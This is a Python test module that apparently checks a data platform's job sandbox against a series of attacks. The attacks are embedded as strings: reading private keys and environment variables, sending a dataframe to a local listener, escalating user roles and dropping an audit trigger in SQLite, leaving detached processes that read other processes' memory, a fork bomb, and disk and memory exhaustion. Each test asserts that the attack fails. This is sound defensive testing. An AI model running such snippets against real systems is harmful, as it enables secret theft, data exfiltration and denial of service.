"""The job sandbox attacked: each attack of issue 12, as code the owner approved, run by a real
domain node (sandbox on, the default) in its own process.

For each: the job fails or returns nothing of value, no secret appears in what comes back (a
marker is searched), nothing reached the listener, nothing changed on disk, no process of the
job is left, and the node keeps serving another scientist.
"""

from __future__ import annotations

import hashlib
import os
import socket
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from nodes import DomainProcess, person

from jupyter_syft.client.admin import AdminClient
from jupyter_syft.client.connection import NodeConnection
from jupyter_syft.client.domain import DomainClient, RemoteRequest
from jupyter_syft.domain.sandbox import JOB_UID_BASE

MARKER = "OTHER-DATASET-MARKER-7f3a"
PATIENTS = pd.DataFrame({"age": np.arange(50) % 60 + 20, "bmi": np.linspace(18, 40, 50)})
OTHER = pd.DataFrame({"secret": [MARKER] * 20, "value": np.arange(20)})
MOCK_OTHER = pd.DataFrame({"secret": ["x"] * 5, "value": np.arange(5)})
pytestmark = pytest.mark.timeout(300)
# Set when tests/test_ray_executor.py runs this module again inside its Ray cluster's network
# namespace: the domain then runs every attack as a Ray task, on whichever Ray node.
RAY_ADDRESS = os.environ.get("SYFT_TEST_RAY_ADDRESS", "")
BACKEND_FLAGS = ["--executor", "ray", "--ray-address", RAY_ADDRESS] if RAY_ADDRESS else []


class Listener:
    """A TCP listener on 127.0.0.1 that records every byte anyone sends it."""

    def __init__(self) -> None:
        self.received = bytearray()
        self.connections = 0
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            with conn:
                conn.settimeout(2)
                while True:
                    try:
                        data = conn.recv(65536)
                    except OSError:
                        break
                    if not data:
                        break
                    self.received += data

    def close(self) -> None:
        self.server.close()


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    root = tmp_path_factory.mktemp("attacks")
    owner_home, owner = person(root, "owner")
    _, mallory = person(root, "mallory")
    _, alice = person(root, "alice")
    node = DomainProcess(
        root, "clinic", owner_home, "--job-timeout", "20", "--job-memory-mb", "256", *BACKEND_FLAGS
    )
    node.start()
    listener = Listener()
    try:
        admin = AdminClient(NodeConnection(node.address, owner))
        admin.create_dataset("patients", private=PATIENTS, mock=PATIENTS.head(5))
        admin.create_dataset("other", private=OTHER, mock=MOCK_OTHER)
        admin.add_user(mallory.peer_id, "data_scientist", "mallory")
        admin.add_user(alice.peer_id, "data_scientist", "alice")
        yield {
            "root": root,
            "node": node,
            "admin": admin,
            "owner_key": (owner_home / "identity.key").read_bytes(),
            "mallory": DomainClient(NodeConnection(node.address, mallory)),
            "alice": DomainClient(NodeConnection(node.address, alice)),
            "listener": listener,
        }
    finally:
        listener.close()
        node.kill()


def secrets(world: dict) -> list[bytes]:
    """Byte strings that must never come back: keys, the store's contents, the other dataset."""
    data_dir: Path = world["node"].data_dir
    found = [MARKER.encode(), world["owner_key"]]
    for name in ("node.key", "tls-key.pem"):
        key = (data_dir / name).read_bytes()
        found += [key, key.hex().encode()]
    return found


def snapshot(world: dict) -> dict[str, str]:
    """A hash of every file of the data dir that a job must not change."""
    data_dir: Path = world["node"].data_dir
    hashes = {}
    for path in sorted(data_dir.rglob("*")):
        relative = str(path.relative_to(data_dir))
        if path.is_file() and not relative.startswith(("results", "domain.sqlite", "staging")):
            hashes[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return hashes


def processes_by_uid() -> list[tuple[int, int]]:
    """(pid, uid) of every process on the machine."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                status = Path(f"/proc/{entry}/status").read_text()
            except OSError:
                continue
            found.append((int(entry), int(status.split("Uid:")[1].split()[0])))
    return found


def job_processes() -> list[int]:
    """Processes running as a job uid, anywhere on the machine."""
    return [pid for pid, uid in processes_by_uid() if uid >= JOB_UID_BASE]


def attack(world: dict, code: str, others_meanwhile: bool = False) -> tuple[RemoteRequest, str]:
    """Mallory's request with `code` (a function `attack(df)`), approved and finished; the
    request and everything that came back as text. `others_meanwhile`: another scientist's
    request is served while the attack runs."""
    mallory: DomainClient = world["mallory"]
    # Job processes already running (another domain's kept workers): none of them is this one's.
    world["job_processes_before"] = set(job_processes())
    request = mallory.submit(textwrap.dedent(code), "attack", {"df": "patients"})
    world["admin"].get_request(request.id).approve()
    if others_meanwhile:
        serve_alice(world)
        assert request.refresh().status in ("approved", "running"), "the attack ended first"
    info = request.wait(timeout=120)
    assert info.status in ("done", "failed"), info.status
    returned = info.error
    if info.status == "done":
        returned += repr(request.result())
    return request, returned


def check_nothing_leaked(world: dict, before: dict[str, str], returned: str) -> None:
    for secret in secrets(world):
        assert secret.decode(errors="replace") not in returned
    listener: Listener = world["listener"]
    assert listener.connections == 0 and not listener.received
    assert snapshot(world) == before
    earlier = world.get("job_processes_before", set())
    deadline = time.monotonic() + 5
    while set(job_processes()) - earlier and time.monotonic() < deadline:
        time.sleep(0.05)
    assert set(job_processes()) - earlier == set()  # nothing of the attack's job is left
    admin: AdminClient = world["admin"]
    assert {u.role for u in admin.users()} == {"admin", "data_scientist"}
    assert [u.role for u in admin.users()].count("admin") == 1
    assert admin.audit_log().chain_ok
    serve_alice(world)  # ...and the node keeps serving others


def serve_alice(world: dict) -> None:
    alice: DomainClient = world["alice"]
    code = "def mean(df):\n    return float(df['age'].mean())\n"
    follow_up = alice.submit(code, "mean", {"df": "patients"})
    world["admin"].get_request(follow_up.id).approve()
    assert follow_up.result(timeout=60) == float(PATIENTS["age"].mean())


def paths(world: dict) -> dict[str, str]:
    data_dir: Path = world["node"].data_dir
    return {
        "node_key": str(data_dir / "node.key"),
        "tls_key": str(data_dir / "tls-key.pem"),
        "store": str(data_dir / "domain.sqlite"),
        "other": str(data_dir / "datasets" / "other" / "private.arrow"),
        "owner_key": str(world["node"].home / "identity.key"),
        "data_dir": str(data_dir),
    }


def test_reading_keys_the_store_and_other_datasets(world: dict) -> None:
    before = snapshot(world)
    code = f"""
    import glob, os

    def attack(df):
        found = {{}}
        targets = {paths(world)!r}
        home = os.environ.get("JUPYTER_SYFT_HOME")
        if home:
            targets["home"] = os.path.join(home, "identity.key")
        targets["home_default"] = os.path.expanduser("~/.jupyter-syft/identity.key")
        for name, path in targets.items():
            try:
                with open(path, "rb") as f:
                    found[name] = f.read().decode("latin-1")
            except OSError as e:
                found[name] = type(e).__name__
        listing = glob.glob(targets["data_dir"] + "/**", recursive=True)
        found["listing"] = [p for p in listing if os.path.exists(p)]
        try:
            found["environ"] = open("/proc/self/environ", "rb").read().decode("latin-1")
        except OSError:
            found["environ"] = ""
        found["env"] = dict(os.environ)
        return found
    """
    request, returned = attack(world, code)
    found = request.result()
    refused = ("FileNotFoundError", "PermissionError", "IsADirectoryError")
    assert all(found[name] in refused for name in paths(world)), found
    # Of the data dir, a job sees only the (public) declared environments' folder.
    data_dir = str(world["node"].data_dir)
    shown = {p.rstrip("/") for p in found["listing"]} - {data_dir}
    assert all(p.startswith(data_dir + "/environments") for p in shown), shown
    assert "JUPYTER_SYFT_HOME" not in found["env"] and "JUPYTER_SYFT" not in found["environ"]
    check_nothing_leaked(world, before, returned)


def test_phoning_home_and_calling_the_node(world: dict) -> None:
    before = snapshot(world)
    node_port = world["node"].port
    code = f"""
    import socket

    def attack(df):
        tried = {{}}
        payload = df.to_csv().encode()
        for port in ({world["listener"].port}, {node_port}):
            try:
                s = socket.create_connection(("127.0.0.1", port), timeout=2)
                s.sendall(payload)
                tried[str(port)] = "sent"
            except OSError as e:
                tried[str(port)] = type(e).__name__
        kinds = [
            (socket.AF_INET, socket.SOCK_DGRAM),
            (socket.AF_INET6, socket.SOCK_STREAM),
            (socket.AF_UNIX, socket.SOCK_STREAM),
            (socket.AF_PACKET, socket.SOCK_RAW),
        ]
        for family, kind in kinds:
            try:
                socket.socket(family, kind)
                tried[str(family)] = "opened"
            except OSError as e:
                tried[str(family)] = type(e).__name__
        try:
            socket.getaddrinfo("localhost", 80)
            tried["dns"] = "resolved"
        except OSError as e:
            tried["dns"] = type(e).__name__
        return tried
    """
    request, returned = attack(world, code)
    tried = request.result()
    assert "sent" not in tried.values() and "opened" not in tried.values()
    check_nothing_leaked(world, before, returned)


def test_tampering_with_the_store_and_other_rows(world: dict) -> None:
    before = snapshot(world)
    code = f"""
    import sqlite3

    def attack(df):
        targets = {paths(world)!r}
        done = []
        try:
            db = sqlite3.connect(targets["store"])
            db.execute("DROP TRIGGER audit_no_delete")
            db.execute("UPDATE users SET role = 'admin'")
            db.commit()
            done.append("store")
        except Exception as e:
            done.append(type(e).__name__)
        try:
            with open(targets["other"], "r+b") as f:
                f.write(b"overwritten")
            done.append("rows")
        except OSError as e:
            done.append(type(e).__name__)
        try:
            with open(targets["data_dir"] + "/planted", "wb") as f:
                f.write(b"x")
            done.append("planted")
        except OSError as e:
            done.append(type(e).__name__)
        return done
    """
    request, returned = attack(world, code)
    assert not {"store", "rows", "planted"} & set(request.result())
    check_nothing_leaked(world, before, returned)


def test_a_process_left_behind_cannot_read_the_next_job(world: dict) -> None:
    """Double fork + setsid, then wait for the next job and read its memory."""
    before = snapshot(world)
    code = """
    import os, time

    def attack(df):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                deadline = time.time() + 30
                while time.time() < deadline:
                    for pid in os.listdir("/proc"):
                        if pid.isdigit():
                            try:
                                open(f"/proc/{pid}/mem", "rb").read(1)
                            except OSError:
                                pass
                    time.sleep(0.01)
                os._exit(0)
            os._exit(0)
        time.sleep(0.2)
        return sorted(p for p in os.listdir("/proc") if p.isdigit())
    """
    request, returned = attack(world, code)
    assert set(request.result()) <= {"1", "2", "3"}  # its own processes: nothing of the node
    check_nothing_leaked(world, before, returned)  # no process remains


def test_fork_bomb_disk_filling_and_memory_through_children(world: dict) -> None:
    before = snapshot(world)
    code = f"""
    import os, time

    def attack(df):
        out = {{}}
        children = 0
        for _ in range(200):
            try:
                if os.fork() == 0:
                    time.sleep(5)
                    os._exit(0)
                children += 1
            except OSError:
                break
        out["children"] = children
        written = 0
        try:
            with open("/tmp/fill", "wb") as f:
                for _ in range(2048):
                    f.write(b"\\0" * 2**20)
                    written += 1
        except OSError as e:
            out["disk"] = type(e).__name__
        out["written_mib"] = written
        try:
            open({paths(world)["data_dir"]!r} + "/fill", "wb")
        except OSError as e:
            out["data_dir"] = type(e).__name__
        return out
    """
    request, returned = attack(world, code)
    out = request.result()
    assert out["children"] < 64
    assert out["written_mib"] <= 256 and out["disk"] == "OSError"
    assert out["data_dir"] in ("FileNotFoundError", "PermissionError")
    check_nothing_leaked(world, before, returned)
    # Memory: four children of 200 MiB each, for a job limited to 256 MiB.
    code = """
    import os, time
    import numpy as np

    def attack(df):
        pids = []
        for _ in range(4):
            pid = os.fork()
            if pid == 0:
                block = np.ones(25 * 2**20)  # 200 MiB, touched
                time.sleep(8)
                os._exit(0)
            pids.append(pid)
        return [os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in pids]
    """
    request, returned = attack(world, code, others_meanwhile=True)
    # The kernel kills children (or the whole job) once together they pass the job's share.
    if request.status == "failed":
        assert "killed" in request.error
    else:
        assert -9 in request.result()
    check_nothing_leaked(world, before, returned)
